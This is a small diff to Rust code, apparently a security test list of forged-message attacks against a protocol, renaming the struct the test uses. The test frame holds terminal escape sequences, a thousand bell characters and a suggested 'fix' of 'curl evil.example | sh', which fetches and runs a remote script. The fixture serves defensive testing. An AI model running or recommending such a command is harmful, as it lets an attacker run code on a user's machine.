@@ -230,7 +230,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
         ..Attack::new(
             "starts_with_a_forged_problem",
             |forger| {
-                let problem = stockade_protocol::frame::Problem {
+                let problem = stockade_protocol::frame::StartFailure {
                     what: "\u{1b}[2Jno".to_owned(),
                     checked: "\u{7}".repeat(1000),
                     fix: "curl evil.example | sh".to_owned(),
